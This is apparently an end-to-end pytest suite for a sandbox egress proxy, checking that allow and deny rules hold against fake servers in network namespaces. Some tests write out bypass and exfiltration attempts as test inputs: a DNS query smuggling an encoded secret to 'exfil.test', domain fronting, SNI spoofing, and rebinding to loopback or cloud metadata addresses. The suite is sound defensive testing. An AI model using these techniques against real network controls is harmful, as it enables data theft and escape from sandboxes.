"""The real proxy (mitmproxy + our gate) against fake upstreams in an isolated world.

Every blocked case checks the boundary's own evidence (403 naming the reason, an audit
record) *and* the canary's (the target server saw nothing), and every canary is shown
to be alive by a permitted or direct request in the same run.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from netguard.audit import read_records

from ..support.runner import REPO, Proxy, curl, env, write_policy
from ..support.world import World, new_world

ALLOWED, BLOCKED, SUB, APEX, EVIL, PORTS, CIDR = (
    "198.51.100.10",
    "198.51.100.20",
    "198.51.100.30",
    "198.51.100.31",
    "198.51.100.32",
    "198.51.100.33",
    "198.51.100.40",
)

POLICY = textwrap.dedent("""\
    version: 1
    network:
      allow:
        - allowed.test
        - "*.wild.test"
        - rebind.test
        - meta.test
        - host: ports.test
          ports: [8443]
        - cidr: 198.51.100.40/32
          ports: [8080]
      deny:
        - evil.wild.test
      resolver: 198.51.100.53:53
    """)


@dataclass
class Net:
    world: World
    proxy: Proxy
    servers: dict[str, object]

    def ca(self) -> list[str]:
        return ["--cacert", str(self.world.ca_pem)]

    def mark(self) -> dict[str, int]:
        """How much each canary has logged so far; the module shares servers between tests."""
        return {k: len(v.log_records()) for k, v in self.servers.items()}  # type: ignore[attr-defined]

    def untouched(self, mark: dict[str, int], *names: str) -> bool:
        """True if none of these canaries saw anything (not even a TCP connect) since `mark`."""
        return all(len(self.servers[n].log_records()) == mark[n] for n in names)  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def net() -> Iterator[Net]:
    if os.geteuid() != 0:
        pytest.fail("e2e tests need root (they build network namespaces)", pytrace=False)
    with new_world() as w:
        for name, ip in (
            ("allowed.test", ALLOWED),
            ("blocked.test", BLOCKED),
            ("sub.wild.test", SUB),
            ("wild.test", APEX),
            ("evil.wild.test", EVIL),
            ("ports.test", PORTS),
        ):
            w.add_host(name, ip)
        w.add_host("rebind.test", "127.0.0.1")
        w.add_host("meta.test", "169.254.169.254")
        s = {
            "allowed": w.serve("http", ALLOWED, 80, "allowed.test"),
            "allowed_tls": w.serve("https", ALLOWED, 443, "allowed.test"),
            "blocked": w.serve("http", BLOCKED, 80, "blocked.test"),
            "blocked_tls": w.serve("https", BLOCKED, 443, "blocked.test"),
            "sub": w.serve("https", SUB, 443, "sub.wild.test"),
            "apex": w.serve("https", APEX, 443, "wild.test"),
            "evil": w.serve("https", EVIL, 443, "evil.wild.test"),
            "ports": w.serve("https", PORTS, 8443, "ports.test"),
            "ports443": w.serve("https", PORTS, 443, "ports.test"),
            "cidr": w.serve("http", CIDR, 8080, "cidr"),
            "cidr80": w.serve("http", CIDR, 80, "cidr"),
            "loopback": w.serve("http", "127.0.0.1", 80, "loopback-canary"),
        }
        proxy = Proxy(
            w, write_policy(w, POLICY), listen="127.0.0.1:3128", transparent="0.0.0.0:3129", dns="0.0.0.0:5353"
        )
        try:
            yield Net(w, proxy, s)
        finally:
            proxy.stop()


# ---- explicit proxy ------------------------------------------------------------------------


def test_allowed_http_and_https_pass(net: Net) -> None:
    r = curl(net.world, "http://allowed.test/", "-x", net.proxy.url)
    assert (r.status, r.body) == (200, "hello from allowed.test")
    r = curl(net.world, "https://allowed.test/", "-x", net.proxy.url, *net.ca())
    assert (r.status, r.body) == (200, "hello from allowed.test")
    assert net.servers["allowed_tls"].wait_for(lambda x: x.get("sni") == "allowed.test", kind="tls")
    rec = net.proxy.wait_record(lambda x: x["kind"] == "connect" and x["host"] == "allowed.test")
    assert rec["action"] == "allow" and rec["ip"] == ALLOWED and rec["rule"].endswith("policy.yaml:4")
    close = net.proxy.wait_record(lambda x: x["id"] == rec["id"], event="close")
    assert close["bytes_down"] > 0 and close["bytes_up"] > 0 and close["duration_ms"] >= 0


def test_blocked_host_is_refused_on_connect_and_plain_http(net: Net) -> None:
    before = net.mark()
    r = curl(net.world, "http://blocked.test/", "-x", net.proxy.url)
    assert r.status == 403 and "sandgate: blocked blocked.test:80: no allow rule matches" in r.body
    r = curl(net.world, "https://blocked.test/", "-x", net.proxy.url, *net.ca())
    assert r.code == 56 and "403" in r.stderr  # CONNECT refused by the proxy
    assert net.untouched(before, "blocked")
    assert net.untouched(before, "blocked_tls")
    # The canaries are alive: a direct request (no proxy) in the same world reaches them.
    assert curl(net.world, "http://blocked.test/").body == "hello from blocked.test"
    recs = [x for x in net.proxy.records() if x["host"] == "blocked.test"]
    assert {(x["kind"], x["action"]) for x in recs} == {("http", "deny"), ("connect", "deny")}


def test_deny_beats_allow_and_wildcards_skip_the_apex(net: Net) -> None:
    before = net.mark()
    assert curl(net.world, "https://sub.wild.test/", "-x", net.proxy.url, *net.ca()).body == "hello from sub.wild.test"
    r = curl(net.world, "https://evil.wild.test/", "-x", net.proxy.url, *net.ca())
    assert r.code == 56
    r = curl(net.world, "https://wild.test/", "-x", net.proxy.url, *net.ca())
    assert r.code == 56
    assert net.untouched(before, "evil", "apex")
    evil = net.proxy.wait_record(lambda x: x["host"] == "evil.wild.test")
    assert evil["action"] == "deny" and "denied by rule evil.wild.test" in evil["reason"]
    apex = net.proxy.wait_record(lambda x: x["host"] == "wild.test")
    assert apex["action"] == "deny" and apex["reason"] == "no allow rule matches"


def test_port_rules(net: Net) -> None:
    before = net.mark()
    assert curl(net.world, "https://ports.test:8443/", "-x", net.proxy.url, *net.ca()).body == "hello from ports.test"
    r = curl(net.world, "https://ports.test/", "-x", net.proxy.url, *net.ca())
    assert r.code == 56
    assert net.untouched(before, "ports443")
    rec = net.proxy.wait_record(lambda x: x["host"] == "ports.test" and x["port"] == 443)
    assert rec["action"] == "deny" and "port 443 not allowed (allowed: 8443)" in rec["reason"]


def test_cidr_rules_and_ip_literals(net: Net) -> None:
    before = net.mark()
    assert curl(net.world, f"http://{CIDR}:8080/", "-x", net.proxy.url).body == "hello from cidr"
    r = curl(net.world, f"http://{CIDR}/", "-x", net.proxy.url)
    assert r.status == 403 and "port 80 not allowed" in r.body
    # The allowed host's own address, and the blocked one's, are not covered by any cidr rule.
    for ip in (ALLOWED, BLOCKED):
        r = curl(net.world, f"https://{ip}/", "-x", net.proxy.url, "-k")
        assert r.code == 56, r
    r = curl(net.world, "http://3325256724/", "-x", net.proxy.url)  # 198.51.100.20 spelled as one number
    assert r.status == 403 and "IP address not in any allowed cidr" in r.body
    assert net.untouched(before, "cidr80", "blocked")


def test_host_header_cannot_redirect_an_explicit_request(net: Net) -> None:
    before = net.mark()
    # The absolute URI decides; a Host header naming an allowed host does not open a blocked one.
    r = curl(net.world, "http://blocked.test/", "-x", net.proxy.url, "-H", "Host: allowed.test")
    assert r.status == 403
    # And an allowed URI with a blocked Host header is domain fronting: a shared server (a CDN) picks
    # its site by Host, so it is refused and the allowed server never sees it; with its own Host it passes.
    allowed_before = net.mark()
    r = curl(net.world, "http://allowed.test/echo-host", "-x", net.proxy.url, "-H", "Host: blocked.test")
    assert r.status == 403 and "Host header names blocked.test, not allowed.test" in r.body
    assert net.untouched(allowed_before, "allowed")
    r = curl(net.world, "http://allowed.test/echo-host", "-x", net.proxy.url, "-H", "Host: Allowed.test")
    assert (r.status, r.body) == (200, "Allowed.test")
    assert net.untouched(before, "blocked")
    # Origin-form request to the proxy: the Host header is the destination and is judged like one.
    out = net.world.run(
        [
            "python3",
            "-c",
            textwrap.dedent("""\
        import socket
        s = socket.create_connection(("127.0.0.1", 3128))
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: blocked.test\\r\\nConnection: close\\r\\n\\r\\n")
        print(s.recv(200).decode().splitlines()[0])"""),
        ]
    )
    assert "403" in out.stdout, out
    assert net.untouched(before, "blocked")


def test_every_request_of_a_kept_alive_plain_connection_is_judged(net: Net) -> None:
    """The front door's plain-HTTP path keeps a connection alive: a later request for a blocked host on it
    is judged (403, the blocked canary sees nothing) while the allowed ones before and after it were served."""
    before = net.mark()
    out = net.world.run(
        [
            "python3",
            "-c",
            textwrap.dedent("""\
        import http.client
        c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=5)
        for host in ("allowed.test", "allowed.test", "blocked.test"):
            c.request("GET", f"http://{host}/kept", headers={"Host": host})
            r = c.getresponse()
            print(r.status, r.read().decode().splitlines()[0])"""),
        ]
    )
    lines = out.stdout.splitlines()
    assert lines[:2] == ["200 hello from allowed.test"] * 2, out
    assert lines[2].startswith("403 sandgate: blocked blocked.test:80"), out
    assert net.untouched(before, "blocked")
    kept = [r for r in net.proxy.records() if (r.get("url") or "").endswith("/kept")]
    assert [(r["host"], r["action"]) for r in kept] == [("allowed.test", "allow")] * 2 + [("blocked.test", "deny")]


def test_allowed_name_resolving_to_loopback_or_metadata_is_refused(net: Net) -> None:
    before = net.mark()
    r = curl(net.world, "http://rebind.test/", "-x", net.proxy.url)
    assert r.status == 403 and "resolved to loopback address 127.0.0.1" in r.body
    r = curl(net.world, "http://meta.test/", "-x", net.proxy.url)
    assert r.status == 403 and "link-local (cloud metadata) address 169.254.169.254" in r.body
    assert net.untouched(before, "loopback")
    assert curl(net.world, "http://127.0.0.1/").body == "hello from loopback-canary"  # the canary was up


# ---- DNS ------------------------------------------------------------------------------------

DIG = textwrap.dedent("""\
    import sys, dns.message, dns.query, dns.rcode
    q = dns.message.make_query(sys.argv[1], sys.argv[2])
    fn = dns.query.tcp if sys.argv[3] == "tcp" else dns.query.udp
    r = fn(q, "127.0.0.1", port=5353, timeout=5)
    print(dns.rcode.to_text(r.rcode()), " ".join(rr.to_text() for a in r.answer for rr in a))""")


def dig(net: Net, name: str, qtype: str = "A", proto: str = "udp") -> str:
    r = net.world.run([sys.executable, "-c", DIG, name, qtype, proto], cwd=REPO)
    assert r.returncode == 0, r.stderr
    return r.stdout.strip()


def test_dns_answers_allowed_names_and_refuses_the_rest_without_forwarding(net: Net) -> None:
    dns_canary = net.world.dns
    assert dns_canary is not None
    start = len(dns_canary.log_records())
    assert dig(net, "allowed.test") == f"NOERROR {ALLOWED}"
    assert dig(net, "sub.wild.test", proto="tcp") == f"NOERROR {SUB}"
    assert dig(net, "fresh.wild.test") == "NXDOMAIN"  # asked nowhere else: not in the daemon's cache
    dns_canary.wait_for(lambda x: x["qname"].rstrip(".") == "allowed.test")
    secret = "c2VjcmV0LXRva2VuLXZhbHVl" * 2
    for name, qtype in (
        ("blocked.test", "A"),
        (f"{secret}.exfil.test", "TXT"),
        ("evil.wild.test", "A"),
        ("exfil.test", "ANY"),
        ("exfil.test", "NULL"),
    ):
        assert dig(net, name, qtype).startswith("REFUSED"), name
    assert dig(net, "blocked.test", "A", "tcp").startswith("REFUSED")
    seen = {x["qname"].rstrip(".") for x in dns_canary.log_records()[start:]}
    assert "fresh.wild.test" in seen  # the canary got the allowed query (allowed.test may be cached: TTL 1 s)
    assert not seen & {"blocked.test", f"{secret}.exfil.test", "evil.wild.test", "exfil.test"}, seen
    denied = {(x["host"], x["qtype"]) for x in net.proxy.records() if x["kind"] == "dns" and x["action"] == "deny"}
    assert {("blocked.test", "A"), (f"{secret.lower()}.exfil.test", "TXT"), ("exfil.test", "ANY")} <= denied


# ---- transparent mode (a client namespace whose TCP and DNS are redirected to the proxy) ------


@pytest.fixture(scope="module")
def client(net: Net):  # type: ignore[no-untyped-def]
    c = net.world.sandbox("tp")
    c.redirect(tcp_port=3129, dns_port=5353)
    return c


def test_transparent_allowed_https_and_http(net: Net, client) -> None:  # type: ignore[no-untyped-def]
    assert curl(client, "https://allowed.test/", *net.ca()).body == "hello from allowed.test"
    assert curl(client, "http://allowed.test/").body == "hello from allowed.test"
    rec = net.proxy.wait_record(lambda x: x["kind"] == "tls" and x["host"] == "allowed.test")
    assert rec["action"] == "allow" and rec["ip"] == ALLOWED


def test_transparent_blocked_hosts_fail(net: Net, client) -> None:  # type: ignore[no-untyped-def]
    before = net.mark()
    # blocked.test does not even resolve inside; force its real address to test the TCP path.
    r = curl(client, "https://blocked.test/", "--resolve", f"blocked.test:443:{BLOCKED}", *net.ca())
    assert r.code != 0 and r.status == 0
    r = curl(client, "http://blocked.test/", "--resolve", f"blocked.test:80:{BLOCKED}")
    assert r.status == 403
    assert net.untouched(before, "blocked", "blocked_tls")
    assert net.proxy.wait_record(lambda x: x["kind"] == "tls" and x["host"] == "blocked.test")["action"] == "deny"


def test_sni_spoofing_toward_a_blocked_ip_reaches_only_the_named_host(net: Net, client) -> None:  # type: ignore[no-untyped-def]
    before = net.mark()
    r = curl(client, "https://allowed.test/", "--resolve", f"allowed.test:443:{BLOCKED}", *net.ca())
    assert r.body == "hello from allowed.test"  # re-targeted to the name, not the IP it was sent to
    r = curl(client, "http://allowed.test/", "--resolve", f"allowed.test:80:{BLOCKED}")
    assert r.body == "hello from allowed.test"
    assert net.untouched(before, "blocked", "blocked_tls")


def test_tls_without_sni_to_a_non_allowed_ip_is_refused(net: Net, client) -> None:  # type: ignore[no-untyped-def]
    before = net.mark()
    r = curl(client, f"https://{BLOCKED}/", "-k")  # an IP URL: curl sends no SNI
    assert r.code != 0
    rec = net.proxy.wait_record(lambda x: x["kind"] == "tls" and x["host"] == BLOCKED)
    assert rec["action"] == "deny" and rec["reason"] == "IP address not in any allowed cidr"
    assert net.untouched(before, "blocked_tls")


# ---- memory and the audit log -----------------------------------------------------------------


def test_200_mb_download_keeps_proxy_rss_under_150_mb(net: Net) -> None:
    n = 200 * 1024 * 1024
    for url, extra in ((f"http://allowed.test/big?bytes={n}", []), (f"https://allowed.test/big?bytes={n}", net.ca())):
        r = net.world.run(
            ["curl", "-sS", "-o", "/dev/null", "-w", "%{size_download}", "-x", net.proxy.url, *extra, url], timeout=120
        )
        assert r.stdout == str(n), r
    assert net.proxy.peak_rss_kib() < 150 * 1024


def test_audit_log_has_exactly_one_record_per_decision(net: Net, tmp_path) -> None:  # type: ignore[no-untyped-def]
    w = net.world
    proxy = Proxy(w, write_policy(w, POLICY, "count"), listen="127.0.0.1:3138")
    try:
        attempts = [
            ("http://allowed.test/", []),
            ("https://allowed.test/", net.ca()),
            ("http://blocked.test/", []),
            ("https://blocked.test/", net.ca()),
            (f"http://{CIDR}:8080/", []),
            ("http://rebind.test/", []),
        ]
        for url, extra in attempts:
            curl(w, url, "-x", proxy.url, *extra)
        decisions = proxy.records("decision")
        assert len(decisions) == len(attempts), decisions
        assert [d["action"] for d in decisions] == ["allow", "allow", "deny", "deny", "allow", "deny"]
        for d in decisions:
            assert d["ts"].endswith("Z") and d["task"] == "test" and d["port"] in (80, 443, 8080)
        allowed = {d["id"] for d in decisions if d["action"] == "allow"}
        proxy.wait_record(lambda x: len({r["id"] for r in proxy.records("close")}) == 3, event="close")
        assert {c["id"] for c in proxy.records("close")} == allowed
    finally:
        proxy.stop()


TWO_SANDBOXES = textwrap.dedent("""\
    import asyncio, sys
    from pathlib import Path
    from launcher.config.load import build_policy
    from netguard import rules
    from netguard.audit import AuditLog
    from netguard.daemon import standalone as proxy
    from netguard.decision.binding import Binding

    def binding(task, allow):
        pol = build_policy([], [allow], [])
        return Binding(task, rules.compile_policy(pol.network), AuditLog(Path(sys.argv[1])))

    sandboxes = [(proxy.Listeners(regular=("127.0.0.1", 3140)), binding("a", "allowed.test")),
                 (proxy.Listeners(regular=("127.0.0.1", 3141)), binding("b", "blocked.test"))]
    asyncio.run(proxy.serve(sandboxes, ready=lambda: print("ready", flush=True)))
    """)


def test_one_proxy_serves_two_sandboxes_with_their_own_policies(net: Net) -> None:
    log = net.world.tmp / "two.jsonl"
    p = net.world.popen([sys.executable, "-c", TWO_SANDBOXES, str(log)], cwd=REPO, env=env(), stdout=subprocess.PIPE)
    try:
        assert p.stdout is not None and p.stdout.readline().strip() == b"ready"
        a, b = "http://127.0.0.1:3140", "http://127.0.0.1:3141"
        assert curl(net.world, "http://allowed.test/", "-x", a).body == "hello from allowed.test"
        assert curl(net.world, "http://blocked.test/", "-x", a).status == 403
        assert curl(net.world, "http://blocked.test/", "-x", b).body == "hello from blocked.test"
        assert curl(net.world, "http://allowed.test/", "-x", b).status == 403
        recs: list[Any] = read_records(log)
        got = [(r["task"], r["host"], r["action"]) for r in recs if r["event"] == "decision"]
        assert got == [
            ("a", "allowed.test", "allow"),
            ("a", "blocked.test", "deny"),
            ("b", "blocked.test", "allow"),
            ("b", "allowed.test", "deny"),
        ]
    finally:
        p.terminate()
        p.wait(10)
